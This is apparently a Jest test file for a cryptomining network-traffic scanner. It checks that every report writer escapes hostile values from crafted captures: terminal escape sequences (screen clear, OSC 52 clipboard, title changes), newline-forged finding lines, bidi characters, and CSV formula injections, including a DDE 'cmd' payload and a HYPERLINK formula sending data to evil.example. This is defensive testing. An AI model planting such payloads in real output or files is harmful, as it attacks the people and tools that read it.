/**
 * Issue #13, "output that attacks its reader": findings made by scanning a
 * crafted capture whose miner chose its login, worker and agent (escape
 * sequences, OSC 52, OSC 0, a forged finding line, bidi, invisibles,
 * formulas), whose pool name comes from a site's list, and whose file name
 * lands in a warning, rendered by every writer.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Analyzer, DEFAULT_ANALYZER_OPTIONS } from '../../src/analyzer';
import { readCapture } from '../../src/capture/read';
import { writePcap } from '../../src/capture/writer';
import { loadSignatures } from '../../src/detect/signatures';
import { forTerminal } from '../../src/report/escape';
import type { Finding, Summary } from '../../src/report/finding';
import { applyMinConfidence, filterByConfidence, meetsConfidence, parseConfidence } from '../../src/report/filter';
import { FindingStream, LineWriter } from '../../src/report/stream';
import { render, renderCsv, renderJson, renderJsonl, renderTable } from '../../src/report/writers';
import { miningSession } from '../../pcaps/generate';
import { Conversation, toRecords, type Timed } from '../support/craft';
import { clientHello } from '../support/craft-protocols';
import { ATTACKS, dangerousIn, everything, FORGED_FINDING } from './hostile';
import { parseCsv } from '../support/csv';

const tmp = mkdtempSync(join(tmpdir(), 'pw-writers-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const T0 = Date.UTC(2026, 0, 15, 9, 0, 0);
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

/** Chosen by the miner: no '.', '+', '/', '#' or '@' in the login, nor space at its ends (trimmed), so it stays one wallet. */
const LOGIN = `${WALLET}${ATTACKS.clearScreen}${ATTACKS.osc0Title}\u202e\u2028${ATTACKS.c1Csi}`;
const WORKER = `${ATTACKS.forgedLine}${ATTACKS.osc52Clipboard}${ATTACKS.bidiIsolate}`;
const AGENT = ATTACKS.forgedLine;
/** The second miner's values are spreadsheet formulas: a plain @, full-width =, and = behind an NBSP (the rig id is kept whole). */
const FORMULA_LOGIN = '@SUM(A1:A9)';
const FORMULA_AGENT = "\uff1dcmd|' /C calc'!A0";
const FORMULA_WORKER = '\u00a0=HYPERLINK("http://evil.example/?"&A1,"click")';
/** A site's pool name, as its pools.txt spells it. */
const POOL_NAME = `Evil\x1b[31m Pool\u202e\x07`;

/** A CryptoNote login line with these values, non-ASCII written as JSON escapes as a miner may send it. */
function loginLine(login: string, agent: string, rigid: string): string {
  const json = JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login, pass: 'x', agent, rigid, algo: ['rx/0'] } });
  return json.replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`) + '\n';
}

function miner(client: string, login: string, agent: string, rigid: string, startMs: number): Timed[] {
  const c = new Conversation({ client, server: '198.51.100.7', clientPort: 49152, serverPort: 3333, startMs });
  c.handshake().client(loginLine(login, agent, rigid));
  c.server('{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a1","job":{"blob":"0e0e' + '00'.repeat(70) + '","job_id":"j1","target":"b88d0600"},"status":"OK"}}\n');
  return c.close().frames;
}

function tlsToSitePool(): Timed[] {
  const c = new Conversation({ client: '10.1.2.9', server: '203.0.113.44', clientPort: 50123, serverPort: 443, startMs: T0 + 9000 });
  return c.handshake().client(clientHello({ sni: 'pool.evil.example' })).close().frames;
}

interface Scan {
  findings: Finding[];
  summary: Summary;
  file: string;
}

let scanned: Promise<Scan> | null = null;

/** The crafted capture, cut short at the end, under a file name with escape sequences and a newline, scanned once. */
function scan(): Promise<Scan> {
  scanned ??= (async () => {
    const frames = [
      ...miner('10.1.2.6', LOGIN, AGENT, WORKER, T0),
      ...miner('10.1.2.5', FORMULA_LOGIN, FORMULA_AGENT, FORMULA_WORKER, T0 + 4000),
      ...tlsToSitePool(),
      ...miningSession(),
    ];
    const pcap = writePcap(toRecords(frames), { linkType: 1 });
    const file = join(tmp, `cap\x1b]0;owned\x07\n${FORGED_FINDING}.pcap`);
    writeFileSync(file, Buffer.concat([pcap, pcap.subarray(24, 34)]));
    const site = join(tmp, 'site');
    mkdirSync(site, { recursive: true });
    writeFileSync(join(site, 'pools.txt'), `pool.evil.example\t${POOL_NAME}\txmr\n`);
    const analyzer = new Analyzer(loadSignatures([site]), { ...DEFAULT_ANALYZER_OPTIONS });
    const warnings: string[] = [];
    // As src/scan-inputs.ts words a capture's warning for the summary.
    await readCapture(file, analyzer, (w) => warnings.push(`${w.file}: offset ${w.offset}: ${w.message}`));
    const findings = analyzer.finish();
    const summary: Summary = {
      type: 'summary', files: 1, packets: analyzer.packets, bytes: analyzer.bytes, seconds: 0.1, flows: analyzer.flowsSeen,
      findings: findings.length, warnings, skipped: [],
    };
    return { findings, summary, file };
  })();
  return scanned;
}

function byHost(findings: Finding[], host: string): Finding {
  const f = findings.find((x) => x.host === host);
  if (f === undefined) throw new Error(`no finding for ${host}`);
  return f;
}

describe('the crafted capture', () => {
  test('gives the hostile values to the findings whole (the attack reaches the writers)', async () => {
    const { findings, summary, file } = await scan();
    expect(findings).toHaveLength(4);
    const f = byHost(findings, '10.1.2.6');
    expect(f).toMatchObject({ login: LOGIN, worker: WORKER, agent: AGENT, confidence: 'high' });
    expect(byHost(findings, '10.1.2.5')).toMatchObject({ login: FORMULA_LOGIN, agent: FORMULA_AGENT, worker: FORMULA_WORKER });
    expect(byHost(findings, '10.1.2.9').poolName).toBe(POOL_NAME);
    expect(summary.warnings.length).toBeGreaterThan(0);
    expect(summary.warnings[0]).toContain(file);
  });
});

describe('table', () => {
  test('no control, bidi or invisible character reaches the terminal; raw newlines only between lines', async () => {
    const { findings, summary } = await scan();
    const table = renderTable(findings, summary);
    expect(dangerousIn(table, '\n')).toEqual([]);
    expect(table).not.toContain('\x1b');
    expect(table).not.toContain('\x07');
    expect(table).not.toContain('\r');
    expect(table).toContain('\\x1b[2J');
    expect(table).toContain('\\x1b]52;c;');
    expect(table).toContain('\\x1b]0;poolwatch: nothing found\\x07');
    expect(table).toContain('\\u202e');
  });

  test('a newline in an agent, a worker or a file name cannot forge a finding line', async () => {
    const { findings, summary } = await scan();
    const lines = renderTable(findings, summary).split('\n');
    const heads = lines.filter((l) => /^(HIGH|MEDIUM|LOW)\s/.test(l));
    expect(heads).toHaveLength(findings.length);
    expect(lines.some((l) => l.startsWith(FORGED_FINDING))).toBe(false);
    expect(lines.some((l) => l.startsWith('       - client sent login') && !l.includes('(agent'))).toBe(false);
    // The forged text is still there for the analyst to see, inside the value it came in.
    expect(lines.some((l) => l.includes(`\\x0a${FORGED_FINDING}`))).toBe(true);
    const warning = lines.filter((l) => l.startsWith('warning: '));
    expect(warning.length).toBe(summary.warnings.length);
    expect(warning[0]).toContain('\\x1b]0;owned\\x07\\x0aHIGH');
  });

  test('the wallet/login and the worker are shown whole, never cut, each on its own line when long', async () => {
    const { findings, summary } = await scan();
    const lines = renderTable(findings, summary).split('\n');
    expect(lines).toContain(`       login ${forTerminal(LOGIN)}`);
    expect(lines).toContain(`       worker ${forTerminal(WORKER)}`);
    // The plain sample's login is a 95-character Monero wallet: whole too.
    expect(lines.some((l) => l.startsWith('       login 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A') && !l.includes('…'))).toBe(true);
  });

  test('a short login, worker and coin stay on one line as before', () => {
    const f = byHostSync();
    const table = renderTable([{ ...f, login: 'wallet1', worker: 'rig1', coin: 'xmr' }], emptySummary(1));
    expect(table).toContain('\n       login wallet1, worker rig1, coin xmr\n');
    const long = renderTable([{ ...f, login: WALLET, worker: 'rig1', coin: 'XMR' }], emptySummary(1));
    expect(long).toContain(`\n       login ${WALLET}\n       worker rig1, coin XMR\n`);
  });

  test('a value cut for width is marked with how much was cut', async () => {
    const { findings, summary } = await scan();
    const lines = renderTable(findings, summary).split('\n');
    const agent = lines.find((l) => l.includes('agent XMRig/6.16.0\\x0aHIGH'));
    expect(agent).toBeDefined();
    const cut = /…\(\+(\d+)\)/.exec(agent as string);
    expect(cut).not.toBeNull();
    expect(Number(cut![1])).toBeGreaterThan(0);
    // The pool name from the site list is shown neutralised.
    expect(lines.some((l) => l.includes(`(${forTerminal(POOL_NAME)})`))).toBe(true);
  });

  test('render("table") is renderTable', async () => {
    const { findings, summary } = await scan();
    expect(render('table', findings, summary)).toBe(renderTable(findings, summary));
  });
});

/** One finding of the plain sample, for tests that vary its fields. */
let plain: Finding | null = null;
function byHostSync(): Finding {
  if (plain === null) throw new Error('scan first');
  return plain;
}
beforeAll(async () => {
  plain = byHost((await scan()).findings, '10.1.2.3');
});

function emptySummary(findings: number): Summary {
  return { type: 'summary', files: 1, packets: 0, bytes: 0, seconds: 0, flows: 0, findings, warnings: [], skipped: [] };
}

describe('csv', () => {
  test('one record per finding, every column in place, no control raw in any cell', async () => {
    const { findings } = await scan();
    const csv = renderCsv(findings);
    expect(dangerousIn(csv, '\n')).toEqual([]);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(findings.length + 1);
    for (const r of rows) expect(r).toHaveLength(rows[0].length);
    expect(csv.split('\n')).toHaveLength(findings.length + 2);
    const col = (name: string) => rows[0].indexOf(name);
    const hostile = rows.find((r) => r[col('host')] === '10.1.2.6') as string[];
    expect(hostile[col('login')]).toBe(forTerminal(LOGIN));
    expect(hostile[col('worker')]).toBe(forTerminal(WORKER));
  });

  test('formulas behind an NBSP, full-width = and @ reach the spreadsheet as text', async () => {
    const { findings } = await scan();
    const rows = parseCsv(renderCsv(findings));
    const col = (name: string) => rows[0].indexOf(name);
    const r = rows.find((x) => x[col('host')] === '10.1.2.5') as string[];
    expect(r[col('login')]).toBe(`'${FORMULA_LOGIN}`);
    expect(r[col('agent')]).toBe(`'${FORMULA_AGENT}`);
    expect(r[col('worker')]).toBe(`'${FORMULA_WORKER}`);
    for (const cell of r) expect(cell).not.toMatch(/^[\s\u00a0]*[=+\-@\uff1d]/u);
  });

  test('ordinary findings keep their unquoted addresses and words', async () => {
    const { findings } = await scan();
    const csv = renderCsv(findings.filter((f) => f.host === '10.1.2.3'));
    expect(csv.split('\n')[1].startsWith('10.1.2.3,198.51.100.7,3333,cryptonote,high,')).toBe(true);
  });
});

describe('json and json lines', () => {
  test('no raw U+2028/2029, C1, bidi or invisible character; the full value parses back', async () => {
    const { findings, summary } = await scan();
    const jsonl = renderJsonl(findings, summary);
    expect(dangerousIn(jsonl, '\n')).toEqual([]);
    const lines = jsonl.trimEnd().split('\n');
    expect(lines).toHaveLength(findings.length + 1);
    const parsed = lines.map((l) => JSON.parse(l) as { host?: string; warnings?: string[] });
    expect(parsed.find((p) => p.host === '10.1.2.6')).toMatchObject({ login: LOGIN, worker: WORKER, agent: AGENT });
    expect(parsed[parsed.length - 1].warnings).toEqual(summary.warnings);
    expect(jsonl).toContain('\\u2028');
    expect(jsonl).toContain('\\u202e');
    expect(jsonl).toContain('\\u009b');

    const json = renderJson(findings, summary);
    expect(dangerousIn(json, '\n')).toEqual([]);
    const doc = JSON.parse(json) as { findings: Finding[] };
    expect(doc.findings).toEqual(JSON.parse(JSON.stringify(findings)));
    expect(render('json', findings, summary)).toBe(json);
    expect(render('jsonl', findings, summary)).toBe(jsonl);
  });

  test('the live stream lines are escaped the same way and keep the full value', async () => {
    const { findings, summary } = await scan();
    const file = join(tmp, 'live.jsonl');
    const out = LineWriter.open(file);
    const alerts: string[] = [];
    const stream = new FindingStream(out, (_r, line) => alerts.push(line));
    for (const f of findings) stream.found(f);
    expect(stream.final(findings, summary)).toBe(true);
    out.close();
    const text = readFileSync(file, 'utf8');
    expect(dangerousIn(text, '\n')).toEqual([]);
    expect(dangerousIn(alerts.join(''), '\n')).toEqual([]);
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as { event?: string; login?: string });
    expect(lines).toHaveLength(findings.length * 2 + 1);
    expect(lines.filter((l) => l.login === LOGIN).map((l) => l.event)).toEqual(['new', 'final']);
  });
});

describe('everything at once', () => {
  test('every hostile character in every field a miner or pool names, through every writer', async () => {
    const base = byHostSync();
    const all = everything();
    const f: Finding = { ...base, login: all, worker: all, agent: all, domain: all, poolName: all, minerSoftware: all, coin: all, algorithms: [all], evidence: [all], hashrateNote: all };
    const summary = { ...emptySummary(1), warnings: [all] };
    expect(dangerousIn(render('table', [f], summary), '\n')).toEqual([]);
    expect(dangerousIn(render('csv', [f], summary), '\n')).toEqual([]);
    expect(dangerousIn(render('json', [f], summary), '\n')).toEqual([]);
    expect(dangerousIn(render('jsonl', [f], summary), '\n')).toEqual([]);
    expect(JSON.parse(render('jsonl', [f], summary).split('\n')[0]).login).toBe(all);
  });
});

describe('--min-confidence', () => {
  test('keeps findings at the level or above, counts the rest, in every format', async () => {
    const { findings, summary } = await scan();
    const levels = findings.map((f) => f.confidence);
    expect(new Set(levels).size).toBeGreaterThan(1);
    for (const min of ['low', 'medium', 'high'] as const) {
      const r = filterByConfidence(findings, min);
      expect(r.findings.every((f) => meetsConfidence(f, min))).toBe(true);
      expect(r.findings.length + r.filteredOut).toBe(findings.length);
      const { findings: kept, summary: s } = applyMinConfidence(findings, summary, min);
      expect(kept).toEqual(r.findings);
      expect(s).toMatchObject({ findings: kept.length, filteredOut: r.filteredOut, minConfidence: min });
      expect(JSON.parse(render('json', kept, s)).findings).toHaveLength(kept.length);
      expect(render('csv', kept, s).trimEnd().split('\n')).toHaveLength(kept.length + 1);
      const table = render('table', kept, s);
      expect(table.split('\n').filter((l) => /^(HIGH|MEDIUM|LOW)\s/.test(l))).toHaveLength(kept.length);
      if (r.filteredOut > 0) expect(table).toContain(`${r.filteredOut} finding(s) below --min-confidence ${min} not shown`);
      else expect(table).not.toContain('below --min-confidence');
    }
    expect(filterByConfidence(findings, 'low').filteredOut).toBe(0);
    expect(filterByConfidence(findings, 'high').findings.map((f) => f.confidence)).toEqual(levels.filter((c) => c === 'high'));
  });

  test('parses the option value', () => {
    expect(parseConfidence('medium')).toBe('medium');
    expect(parseConfidence(' HIGH ')).toBe('high');
    expect(parseConfidence('none')).toBeNull();
    expect(parseConfidence('2')).toBeNull();
  });
});

describe('hash rate in the table', () => {
  test('an estimate with its interval and window; the miner\'s claim apart; a note when there is none', () => {
    const f = byHostSync();
    const est: Finding = { ...f, hashrate: 1234.5, hashrateLow: 600, hashrateHigh: 2300, hashrateWindowSeconds: 600, hashrateNote: 'x', work: 740_700_000, reportedHashrate: 1500 };
    const line = renderTable([est], emptySummary(1)).split('\n').find((l) => l.includes('hash rate'));
    expect(line).toBe('       hash rate 1.23 kH/s (95 %: 600.0 H/s .. 2.30 kH/s) over 10.0 min; work 740.7 M hashes; miner claims 1.50 kH/s');
    const none = renderTable([f], emptySummary(1)).split('\n').find((l) => l.includes('hash rate'));
    expect(f.work).toBe(20000);
    expect(none).toBe(`       hash rate: ${f.hashrateNote}; work 20.0 k hashes`);
    expect(f.hashrateNote).toMatch(/^too few shares/);
  });
});
